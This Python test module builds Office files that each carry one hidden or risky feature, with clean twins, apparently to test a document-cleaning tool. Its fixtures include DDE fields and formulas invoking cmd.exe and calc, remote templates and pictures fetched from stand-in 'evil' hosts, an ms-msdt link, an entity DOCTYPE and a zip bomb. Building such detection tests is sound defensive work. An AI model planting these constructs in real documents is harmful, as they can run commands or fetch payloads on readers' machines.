"""Office files with one trick each, and their clean twins, made when they are needed."""

import io

import msoffcrypto

from tests.common.files import WORDS, R, W, X, archive, excel, pictured, relation, relations, slides, word

COMPATIBILITY = "http://schemas.openxmlformats.org/markup-compatibility/2006"
HIDDEN = "Anna Secret"  # what no reader sees and nothing may keep


def para(run, **more):
    return word(f"<w:p><w:r><w:t>Agenda</w:t></w:r>{run}</w:p>", **more)


def hidden_run(properties):
    return f"<w:r><w:rPr>{properties}</w:rPr><w:t>{HIDDEN}</w:t></w:r>"


def styled(styles, run):
    return para(
        run,
        **{
            "word/styles.xml": f"<w:styles {W}>{styles}</w:styles>",
            "rels": relation("styles", "styles.xml"),
        },
    )


def field(*words):
    parts = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    shown = "<w:r><w:t>shown</w:t></w:r>"
    return f"{char.format('begin')}{parts}{char.format('separate')}{shown}{char.format('end')}"


def with_comments():
    marks = '<w:commentRangeStart w:id="0"/><w:r><w:commentReference w:id="0"/></w:r><w:commentRangeEnd w:id="0"/>'
    comments = f'<w:comments {W}><w:comment w:id="0" w:author="Anna"><w:p><w:r><w:t>{HIDDEN}</w:t></w:r></w:p></w:comment></w:comments>'
    return para(marks, **{"word/comments.xml": comments, "rels": relation("comments", "comments.xml")})


def with_embedded(inside):
    thing = f'<w:r><w:object><o:OLEObject xmlns:o="urn:o" {R} r:id="rId9"/></w:object></w:r>'
    return para(thing, **{"word/embeddings/a.docx": inside, "rels": relation("package", "embeddings/a.docx", "rId9")})


def leading(kind, target, element="", **more):
    rels = relation(kind, target, "rId9", external=True)
    return para(f"<w:r>{element}</w:r>" if element else "", rels=rels, **more)


def template(target):
    settings = f'<w:settings {W} {R}><w:attachedTemplate r:id="rId1"/></w:settings>'
    return word(
        "<w:p/>",
        **{
            "word/settings.xml": settings,
            "rels": relation("settings", "settings.xml"),
            "word/_rels/settings.xml.rels": relations(relation("attachedTemplate", target, "rId1", external=True)),
        },
    )


def cell(place, words, style=0):
    return f'<c r="{place}" s="{style}" t="inlineStr"><is><t>{words}</t></is></c>'


def rows(*more, before=""):
    return f'<worksheet {X}>{before}<sheetData><row r="1">{cell("A1", "Figures")}</row>{"".join(more)}</sheetData></worksheet>'


def row(attributes, words=HIDDEN, column="A"):
    return f'<row r="2" {attributes}>{cell(f"{column}2", words) if words else ""}</row>'


def columns(attributes, words=HIDDEN):
    return rows(row("", words, "C"), before=f'<cols><col min="3" max="4" {attributes}/></cols>')


def alternative(shown, instead, requires="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"):
    """A run with a text box of today, and what older programs show in its place."""
    box = "<w:txbxContent><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:txbxContent>"
    return (
        f'<w:r><mc:AlternateContent xmlns:mc="{COMPATIBILITY}" xmlns:wps="{requires}">'
        f'<mc:Choice Requires="wps"><w:drawing>{box.format(shown)}</w:drawing></mc:Choice>'
        f"<mc:Fallback><w:pict>{box.format(instead)}</w:pict></mc:Fallback></mc:AlternateContent></w:r>"
    )


def formula(text):
    return rows(f'<row r="2"><c r="A2"><f>{text}</f><v>1</v></c></row>')


def showing_nothing(words):
    styles = f'<styleSheet {X}><numFmts><numFmt numFmtId="164" formatCode=";;;"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="164"/></cellXfs></styleSheet>'
    sheet = rows(f'<row r="2">{cell("A2", words, 1) if words else ""}</row>')
    return excel(sheet, **{"xl/styles.xml": styles, "rels": relation("styles", "styles.xml", "rId7")})


def commented():
    comments = (
        f'<comments {X}><commentList><comment ref="A1"><text><t>{HIDDEN}</t></text></comment></commentList></comments>'
    )
    return excel(
        rows(),
        **{
            "xl/comments1.xml": comments,
            "xl/worksheets/_rels/sheet1.xml.rels": relations(relation("comments", "../comments1.xml")),
        },
    )


def noted(words):
    p, a = 'xmlns:p="urn:p"', 'xmlns:a="urn:a"'
    notes = f'<p:notes {p} {a}><a:p><a:fld type="slidenum"><a:t>1</a:t></a:fld><a:r><a:t>{words}</a:t></a:r></a:p></p:notes>'
    return slides(
        **{
            "ppt/notesSlides/notesSlide1.xml": notes,
            "ppt/slides/_rels/slide1.xml.rels": relations(relation("notesSlide", "../notesSlides/notesSlide1.xml")),
        }
    )


def locked(data):
    out = io.BytesIO()
    msoffcrypto.OfficeFile(io.BytesIO(data)).encrypt("secret", out)
    return out.getvalue()


def in_text(words):
    return f"{words} in the text"


def archive_with_doctype():
    bomb = '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb">]>'
    return word("<w:p/>", before=bomb)


# What a reader would not see: each can be taken out where the person asks.
UNSEEN = {
    "struck out": (lambda: para(f'<w:del w:author="Anna"><w:r><w:delText>{HIDDEN}</w:delText></w:r></w:del>'), in_text("tracked changes")),
    "put in": (lambda: para("<w:ins><w:r><w:t>new</w:t></w:r></w:ins>"), in_text("tracked changes")),
    "moved": (lambda: para(f"<w:moveFrom><w:r><w:t>{HIDDEN}</w:t></w:r></w:moveFrom>"), in_text("tracked changes")),
    "a look that was changed": (lambda: para(f'<w:r><w:rPr><w:rPrChange w:author="{HIDDEN}"/></w:rPr><w:t>a</w:t></w:r>'), in_text("tracked changes")),
    "struck out under another prefix": (lambda: para(f'<x:del xmlns:x="{WORDS}"><x:r><x:delText>{HIDDEN}</x:delText></x:r></x:del>'), in_text("tracked changes")),
    "a row struck out": (lambda: word(f"<w:tbl><w:tr><w:trPr><w:del/></w:trPr><w:tc><w:p><w:r><w:t>{HIDDEN}</w:t></w:r></w:p></w:tc></w:tr></w:tbl><w:p/>"), in_text("tracked changes")),
    "hidden text": (lambda: para(hidden_run("<w:vanish/>")), in_text("hidden text") + " beside “Agenda”"),
    "text hidden by a style": (lambda: styled('<w:style w:styleId="A"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style>', hidden_run('<w:rStyle w:val="B"/>')), in_text("hidden text") + " beside “Agenda”"),
    "text of half a point": (lambda: para(hidden_run('<w:sz w:val="1"/>')), in_text("hidden text") + " beside “Agenda”"),
    "hidden text box": (lambda: para(f'<w:r><w:drawing><d:docPr xmlns:d="urn:d" hidden="1" descr="{HIDDEN}"/></w:drawing></w:r>'), in_text("a hidden picture or text box")),
    "comments in Word": (with_comments, in_text("comments")),
    "DDE": (lambda: para(field("DDEAUTO c:\\\\windows\\\\cmd.exe")), in_text("a field that fetches something")),
    "DDE in two pieces": (lambda: para(field("DD", "E cmd")), in_text("a field that fetches something")),
    "DDE spelled with entities": (lambda: para(field("&#68;&#68;E cmd")), in_text("a field that fetches something")),
    "DDE in a simple field": (lambda: para('<w:fldSimple w:instr=" DDE cmd "><w:r><w:t>shown</w:t></w:r></w:fldSimple>'), in_text("a field that fetches something")),
    "a picture that is fetched": (lambda: para(field("INCLUDEPICTURE http://evil/a.png")), in_text("a field that fetches something")),
    "a field that builds its name": (lambda: para(field("", field("QUOTE 68 68 69"))), in_text("a field that fetches something")),
    "a remote template": (lambda: template("https://evil.example/a.dotm"), "something that is fetched from elsewhere"),
    "a linked picture": (lambda: leading("image", "http://evil/a.png", f'<w:drawing><a:blip xmlns:a="urn:a" {R} r:link="rId9"/></w:drawing>'), in_text("something that is fetched from elsewhere")),
    "a kind spelled with entities": (lambda: para("", rels=relation("o&#108;eObject", "http://evil/a", "rId9", external=True)), in_text("something that is fetched from elsewhere")),
    "a link that runs": (lambda: leading("hyperlink", "ms-msdt:/id"), in_text("something that is fetched from elsewhere")),
    "a file inside": (lambda: with_embedded(word("<w:p/>")), in_text("another file inside it")),
    "a file inside a file inside": (lambda: with_embedded(with_embedded(HIDDEN.encode())), in_text("another file inside it")),
    "hidden sheet": (lambda: excel(rows(), rows(row("")), state="hidden"), "sheet ‘Families’ is hidden"),
    "very hidden sheet": (lambda: excel(rows(), rows(row("")), state="veryHidden"), "sheet ‘Families’ is hidden"),
    "hidden sheet spelled with entities": (lambda: excel(rows(), rows(row("")), state="&#104;idden"), "sheet ‘Families’ is hidden"),
    "hidden rows": (lambda: excel(rows(row('hidden="1"'))), "sheet ‘Figures’ has hidden rows"),
    "rows of no height": (lambda: excel(rows(row('ht="0" customHeight="1"'))), "sheet ‘Figures’ has hidden rows"),
    "hidden columns": (lambda: excel(columns('hidden="1"')), "sheet ‘Figures’ has hidden columns"),
    "columns of no width": (lambda: excel(columns('width="0" customWidth="1"')), "sheet ‘Figures’ has hidden columns"),
    "cells that show nothing": (lambda: showing_nothing(HIDDEN), "sheet ‘Figures’ has cells that show nothing"),
    "comments in Excel": (commented, "comments on sheet ‘Figures’"),
    "DDE in a formula": (lambda: excel(formula("cmd|'/c calc'!A0")), "a formula that asks another program or the internet on sheet ‘Figures’"),
    "a formula that fetches": (lambda: excel(formula('WEBSERVICE("http://evil")')), "a formula that asks another program or the internet on sheet ‘Figures’"),
    "another workbook": (lambda: excel(rows(), **{"xl/externalLinks/externalLink1.xml": f"<externalLink {X}/>", "rels": relation("externalLink", "externalLinks/externalLink1.xml", "rId7")}), "something that is fetched from elsewhere"),
    "a hidden name": (lambda: excel(rows(), names=f'<definedName name="a" hidden="1">"{HIDDEN}"</definedName>'), "hidden names"),
    "words for older programs": (lambda: para(alternative("Agenda", HIDDEN)), "words that only some programs show"),
    "hidden slide": (lambda: slides(second='show="0"'), "slide 2 is hidden"),
    "notes of a slide": (lambda: noted(HIDDEN), "notes on slide 1"),
    "a link that starts a program": (lambda: slides('<a:hlinkClick xmlns:a="urn:a" action="ppaction://program"/>'), "a link that starts something on slide 1"),
}  # fmt: skip
DANGEROUS = {
    "macros": (lambda: para("", **{"word/vbaProject.bin": "x"}), "macros or programs"),
    "macros by their kind": (lambda: para("", rels=relation("vbaProject", "a.bin"), **{"word/a.bin": "x"}), "macros or programs"),
    "a program": (lambda: para("", **{"a/b.JS": "x"}), "macros or programs"),
    "words for programs nobody has": (lambda: para(alternative(HIDDEN, "Agenda", "urn:odd")), "words that only some programs show"),
    "a part nobody knows": (lambda: para("", rels=relation("odd", "odd.bin"), **{"word/odd.bin": "x"}), "a part that cannot be checked"),
    "a web page inside": (lambda: para("", rels=relation("aFChunk", "a.html"), **{"word/a.html": "x"}), "another file inside it"),
    "entities": (archive_with_doctype, "damaged"),
    "a bomb": (lambda: para("", **{"word/media/a.bmp": b"\0" * 30_000_000}), "unpacks to far more"),
    "locked": (lambda: locked(word("<w:p/>")), "locked with a password"),
}  # fmt: skip


CLEAN = {
    "Word": lambda: para(""),
    "switched off": lambda: para('<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>seen</w:t></w:r>'),
    "hidden in the browser alone": lambda: para("<w:r><w:rPr><w:webHidden/></w:rPr><w:t>3</w:t></w:r>"),
    "a hidden style nobody uses": lambda: styled('<w:style w:styleId="A"><w:rPr><w:vanish/></w:rPr></w:style>', ""),
    "a hidden run without words": lambda: para("<w:r><w:rPr><w:vanish/></w:rPr></w:r>"),
    "table of contents": lambda: para(field('TOC \\o "1-3"')),
    "button without a macro": lambda: para(field("MACROBUTTON NoMacro [Click here]")),
    "the words of a field": lambda: para("<w:r><w:t>DDEAUTO and w:del</w:t></w:r>"),
    "the same words for older programs": lambda: para(alternative("Agenda", "Agenda")),
    "the name of a filter": lambda: excel(rows(), names='<definedName name="_xlnm._FilterDatabase" hidden="1">Figures!A1:B9</definedName>'),
    "plain link": lambda: leading("hyperlink", "https://example.org"),
    "house template": lambda: template("file:///\\\\council\\templates\\Letter.dotm"),
    "template as a document": lambda: word("<w:p><w:r><w:t>Agenda</w:t></w:r></w:p>", main="template"),
    "footnotes": lambda: para("", rels=relation("footnotes", "footnotes.xml"), **{"word/footnotes.xml": f"<w:footnotes {W}/>"}),
    "no comments": lambda: para("", rels=relation("comments", "comments.xml"), **{"word/comments.xml": f"<w:comments {W}/>"}),
    "picture": pictured,
    "Excel": lambda: excel(rows(), formula("SUM(A1:A2)")),
    "hidden row without words": lambda: excel(rows(row('hidden="1"', ""))),
    "hidden columns without words": lambda: excel(columns('hidden="1"', "")),
    "format that shows nothing unused": lambda: showing_nothing(""),
    "a bar in the name of a sheet": lambda: excel(formula("'A|B'!A1&amp;&quot;a|b&quot;")),
    "PowerPoint": slides,
    "notes without words": lambda: noted(""),
    "link to the next slide": lambda: slides('<a:hlinkClick xmlns:a="urn:a" action="ppaction://hlinkshowjump?jump=nextslide"/>'),
}  # fmt: skip


def broken_archive():
    return archive({"[Content_Types].xml": "x"})[:-30]
